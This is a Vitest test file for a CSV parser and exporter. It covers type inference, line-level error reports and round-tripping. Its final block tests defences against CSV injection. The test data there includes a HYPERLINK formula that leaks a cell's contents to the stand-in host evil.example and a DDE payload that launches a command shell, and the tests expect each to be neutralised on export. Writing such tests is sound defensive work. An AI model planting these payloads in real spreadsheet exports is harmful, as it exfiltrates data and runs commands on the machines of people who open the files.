import { describe, expect, it } from 'vitest';
import { inferType, parseCsv, toCsv } from './csv';
import type { Column } from './schema';

describe('CSV import', () => {
  it('reads a header row, infers types, and handles a BOM, CRLF, quoted commas and quotes', () => {
    const text = '\uFEFFname,amount,paid,due\r\n"Acme, Inc.",1200.50,yes,2025-01-31\r\n"He said ""hi""",-3,no,\r\n';
    const result = parseCsv(text);
    expect(result.problems).toEqual([]);
    expect(result.columns).toEqual([
      { name: 'name', type: 'text' },
      { name: 'amount', type: 'number' },
      { name: 'paid', type: 'boolean' },
      { name: 'due', type: 'date' }
    ]);
    expect(result.rows.map((r) => r.values)).toEqual([
      { name: 'Acme, Inc.', amount: 1200.5, paid: true, due: '2025-01-31' },
      { name: 'He said "hi"', amount: -3, paid: false, due: null }
    ]);
  });

  it('keeps a quoted line break inside a cell', () => {
    expect(parseCsv('note\n"two\nlines"\n').rows[0].values).toEqual({ note: 'two\nlines' });
  });

  it.each([
    [['1', '2.5', '-3', '1e3', ''], 'number'],
    [['1', '1,234'], 'text'],
    [['true', 'NO', 'yes'], 'boolean'],
    [['2025-01-01', '2025-02-28T10:00:00Z'], 'date'],
    [['2025-02-30'], 'text'],
    [['', ''], 'text']
  ])('infers %j as %s', (cells, type) => {
    expect(inferType(cells)).toBe(type);
  });

  it('reports bad numbers and short rows by line, into an existing table, and keeps the good rows', () => {
    const columns: Column[] = [
      { name: 'sku', type: 'text' },
      { name: 'price', type: 'number' }
    ];
    const result = parseCsv('sku,price\nA1,10\nA2,ten\nA3\nA4,1.234,5\nA5,"1,5"\nA6,7\n', columns);
    expect(result.rows.map((r) => [r.line, r.values.sku])).toEqual([
      [2, 'A1'],
      [7, 'A6']
    ]);
    expect(result.problems).toEqual([
      { line: 3, message: 'column "price": "ten" is not a number' },
      { line: 4, message: 'has 1 cells but the header names 2 columns' },
      { line: 5, message: 'has 3 cells but the header names 2 columns' },
      { line: 6, message: 'column "price": "1,5" is not a number' }
    ]);
  });

  it.each([
    ['', /no header row/],
    ['a,a\n1,2', /two columns are named "a"/]
  ])('refuses a file it cannot use: %j', (text, message) => {
    const result = parseCsv(text);
    expect(result.rows).toEqual([]);
    expect(result.problems[0].message).toMatch(message);
  });

  it('refuses headers that are not columns of the table it goes into', () => {
    expect(parseCsv('sku,colour\nA,red', [{ name: 'sku', type: 'text' }]).problems[0].message).toMatch(/no column "colour"/);
  });
});

describe('CSV export', () => {
  const columns: Column[] = [
    { name: 'name', type: 'text' },
    { name: 'amount', type: 'number' },
    { name: 'paid', type: 'boolean' },
    { name: 'due', type: 'date' }
  ];
  const rows = [
    { name: 'Acme, Inc.', amount: 1200.5, paid: true, due: '2025-01-31' },
    { name: 'He said "hi"\nbye', amount: null, paid: false, due: null }
  ];

  it('quotes where needed and uses CRLF', () => {
    expect(toCsv(columns, rows)).toBe('name,amount,paid,due\r\n"Acme, Inc.",1200.5,true,2025-01-31\r\n"He said ""hi""\nbye",,false,');
  });

  it('reads back as it was written', () => {
    const back = parseCsv(toCsv(columns, rows));
    expect(back.columns).toEqual(columns);
    expect(back.rows.map((r) => r.values)).toEqual(rows);
  });

  // CSV injection (OWASP): a spreadsheet runs a cell that starts with =, +, -, @, a tab or a CR as a formula.
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['-3', "'-3"],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
    ["'already quoted", "'already quoted"]
  ])('defuses the text cell %j on export', (text, written) => {
    const csv = toCsv([{ name: 'note', type: 'text' }], [{ note: text }]);
    expect(csv).toBe(`note\r\n${written}`);
  });

  it('keeps negative numbers in number columns as numbers, and defuses a formula-like header', () => {
    const cols: Column[] = [
      { name: '=cmd', type: 'text' },
      { name: 'delta', type: 'number' }
    ];
    const csv = toCsv(cols, [
      { '=cmd': '-5', delta: -3 },
      { '=cmd': 'ok', delta: -0.25 }
    ]);
    expect(csv).toBe("'=cmd,delta\r\n'-5,-3\r\nok,-0.25");
    const back = parseCsv(csv);
    expect(back.columns[1]).toEqual({ name: 'delta', type: 'number' });
    expect(back.rows.map((r) => r.values.delta)).toEqual([-3, -0.25]);
  });
});
